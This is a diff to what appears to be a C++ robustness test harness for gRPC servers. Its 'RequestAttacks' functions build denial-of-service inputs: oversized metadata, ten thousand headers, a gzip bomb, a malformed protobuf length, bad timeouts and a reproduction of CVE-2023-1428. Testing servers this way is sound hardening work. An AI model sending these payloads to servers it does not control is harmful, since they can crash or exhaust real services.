@@ -24,51 +24,51 @@ std::string Block(const std::string& fields, bool last = false) {
 }
 
 // One connection after the other sends `bytes` and waits for the answer.
-Outcome Ask(const std::string& addr, absl::Time end, const std::string& bytes,
+Outcome Ask(const Target& target, absl::Time end, const std::string& bytes,
             bool acknowledge = true) {
-  return AgainAndAgain(addr, end, [&](RawPeer& peer) {
+  return AgainAndAgain(target, end, [&](RawPeer& peer) {
     if (peer.Hello(acknowledge) && peer.Send(bytes))
       peer.Listen(absl::Milliseconds(100));
   });
 }
 
-Outcome AskWith(const std::string& addr, absl::Time end, const Fields& fields) {
-  return Ask(addr, end,
+Outcome AskWith(const Target& target, absl::Time end, const Fields& fields) {
+  return Ask(target, end,
              Block(Request(kMethod, fields)) +
                  Frame(kData, kEndStream, 1, Message("")));
 }
 
-Outcome AskMessage(const std::string& addr, absl::Time end,
+Outcome AskMessage(const Target& target, absl::Time end,
                    const std::string& message, const Fields& fields = {}) {
   std::string bytes = Block(Request(kMethod, fields));
   for (size_t at = 0; at < message.size(); at += 16'000)
     bytes += Frame(kData, 0, 1, message.substr(at, 16'000));
-  return Ask(addr, end, bytes + Frame(kData, kEndStream, 1));
+  return Ask(target, end, bytes + Frame(kData, kEndStream, 1));
 }
 
-Outcome Metadata9Kb(const std::string& addr, absl::Time end) {
-  return AskWith(addr, end, {{"x-large", std::string(9 << 10, 'x')}});
+Outcome Metadata9Kb(const Target& target, absl::Time end) {
+  return AskWith(target, end, {{"x-large", std::string(9 << 10, 'x')}});
 }
-Outcome Metadata17Mb(const std::string& addr, absl::Time end) {
+Outcome Metadata17Mb(const Target& target, absl::Time end) {
   // Before the settings are acknowledged they bind nobody.
-  return Ask(addr, end,
+  return Ask(target, end,
              Block(Request(kMethod, {{"x-large", std::string(17 << 20, 'x')}})),
              false);
 }
-Outcome TenThousandFields(const std::string& addr, absl::Time end) {
+Outcome TenThousandFields(const Target& target, absl::Time end) {
   Fields fields;
   for (int i = 0; i < 10'000; ++i)
     fields.emplace_back(absl::StrCat("x-", i), "y");
-  return AskWith(addr, end, fields);
+  return AskWith(target, end, fields);
 }
-Outcome BadBase64(const std::string& addr, absl::Time end) {
-  return AskWith(addr, end, {{"trace-bin", "%%%=not base64=%%%"}});
+Outcome BadBase64(const Target& target, absl::Time end) {
+  return AskWith(target, end, {{"trace-bin", "%%%=not base64=%%%"}});
 }
 
 // CVE-2023-1428: an odd `te` and too much metadata ended the process.
-Outcome OddTe(const std::string& addr, absl::Time end) {
+Outcome OddTe(const Target& target, absl::Time end) {
   int variant = 0;
-  return AgainAndAgain(addr, end, [&](RawPeer& peer) {
+  return AgainAndAgain(target, end, [&](RawPeer& peer) {
     const bool acknowledge = (variant & 1) != 0;
     const bool large = (variant & 2) != 0;
     const bool remembered = (variant & 4) != 0;
@@ -84,60 +84,61 @@ Outcome OddTe(const std::string& addr, absl::Time end) {
   });
 }
 
-Outcome LongMessage(const std::string& addr, absl::Time end) {
-  return AskMessage(addr, end, Message(std::string((64 << 10) + 1, 'x')));
+Outcome LongMessage(const Target& target, absl::Time end) {
+  return AskMessage(target, end, Message(std::string((64 << 10) + 1, 'x')));
 }
-Outcome ShortMessage(const std::string& addr, absl::Time end) {
-  return AskMessage(addr, end, Message(std::string(1'000, 'x')).substr(0, 99));
+Outcome ShortMessage(const Target& target, absl::Time end) {
+  return AskMessage(target, end,
+                    Message(std::string(1'000, 'x')).substr(0, 99));
 }
-Outcome MoreThanTheMessage(const std::string& addr, absl::Time end) {
-  return AskMessage(addr, end, Message("") + std::string(1'000, 'x'));
+Outcome MoreThanTheMessage(const Target& target, absl::Time end) {
+  return AskMessage(target, end, Message("") + std::string(1'000, 'x'));
 }
-Outcome FourGigabytes(const std::string& addr, absl::Time end) {
-  return AskMessage(addr, end,
+Outcome FourGigabytes(const Target& target, absl::Time end) {
+  return AskMessage(target, end,
                     absl::StrCat(BigEndian(0, 1), BigEndian(0xffffffff, 4),
                                  std::string(20'000, 'x')));
 }
-Outcome GzipBomb(const std::string& addr, absl::Time end) {
-  const std::string zeros(60 << 20, '\0');
+Outcome GzipBomb(const Target& target, absl::Time end) {
+  const std::string zeros(16 << 20, '\0');
   uLongf size = compressBound(zeros.size());
   std::string packed(size, '\0');
   compress(reinterpret_cast<Bytef*>(packed.data()), &size,
            reinterpret_cast<const Bytef*>(zeros.data()), zeros.size());
   packed.resize(size);
-  return AskMessage(addr, end, Message(packed, true),
+  return AskMessage(target, end, Message(packed, true),
                     {{"grpc-encoding", "deflate"}});
 }
-Outcome NoProtobuf(const std::string& addr, absl::Time end) {
+Outcome NoProtobuf(const Target& target, absl::Time end) {
   // A field of 2 GB, and a number that never ends.
   return AskMessage(
-      addr, end,
+      target, end,
       Message("\x0a\xff\xff\xff\xff\x07" + std::string(40'000, '\xff')));
 }
-Outcome WrongContentType(const std::string& addr, absl::Time end) {
+Outcome WrongContentType(const Target& target, absl::Time end) {
   std::string block = "\x83\x86";
   absl::StrAppend(&block, HpackField(":path", kMethod),
                   HpackField(":authority", "x"), HpackField("te", "trailers"),
                   HpackField("content-type", "text/html"));
-  return Ask(addr, end,
+  return Ask(target, end,
              Block(block) + Frame(kData, kEndStream, 1, Message("")));
 }
-Outcome BadTimeout(const std::string& addr, absl::Time end) {
-  return AskWith(addr, end, {{"grpc-timeout", "99999999999999999999n"}});
+Outcome BadTimeout(const Target& target, absl::Time end) {
+  return AskWith(target, end, {{"grpc-timeout", "99999999999999999999n"}});
 }
-Outcome NoPath(const std::string& addr, absl::Time end) {
-  return Ask(addr, end, Block("\x83\x86", true));
+Outcome NoPath(const Target& target, absl::Time end) {
+  return Ask(target, end, Block("\x83\x86", true));
 }
-Outcome UpperCaseAndRepeatedFields(const std::string& addr, absl::Time end) {
-  return Ask(addr, end,
+Outcome UpperCaseAndRepeatedFields(const Target& target, absl::Time end) {
+  return Ask(target, end,
              Block(Request(kMethod, {{"X-Upper", "x"},
                                      {":path", "/again"},
                                      {":unknown", "x"},
                                      {"", "nameless"}}),
                    true));
 }
-Outcome ReflectionProbe(const std::string& addr, absl::Time end) {
-  return Ask(addr, end,
+Outcome ReflectionProbe(const Target& target, absl::Time end) {
+  return Ask(target, end,
              Block(Request("/grpc.reflection.v1alpha.ServerReflection/"
                            "ServerReflectionInfo")) +
                  Frame(kData, kEndStream, 1, Message("")));
@@ -147,7 +148,6 @@ Outcome ReflectionProbe(const std::string& addr, absl::Time end) {
 
 std::vector<Attack> RequestAttacks() {
   const absl::Duration brief = absl::Seconds(1);
-  // RESOURCE_EXHAUSTED, UNIMPLEMENTED: as text among the fields of an answer.
   return {
       {"Metadata9Kb", brief, false, "", Metadata9Kb},
       {"Metadata17Mb", absl::Seconds(2), true, "", Metadata17Mb},
@@ -158,7 +158,7 @@ std::vector<Attack> RequestAttacks() {
       {"ShortMessage", brief, false, "grpc-status", ShortMessage},
       {"MoreThanTheMessage", brief, false, "", MoreThanTheMessage},
       {"FourGigabytes", brief, false, "larger than max", FourGigabytes},
-      {"GzipBomb", brief, false, "grpc-status", GzipBomb},
+      {"GzipBomb", absl::Seconds(2), false, "grpc-status", GzipBomb},
       {"NoProtobuf", brief, false, "grpc-status", NoProtobuf},
       {"WrongContentType", brief, false, "", WrongContentType},
       {"BadTimeout", brief, false, "", BadTimeout},
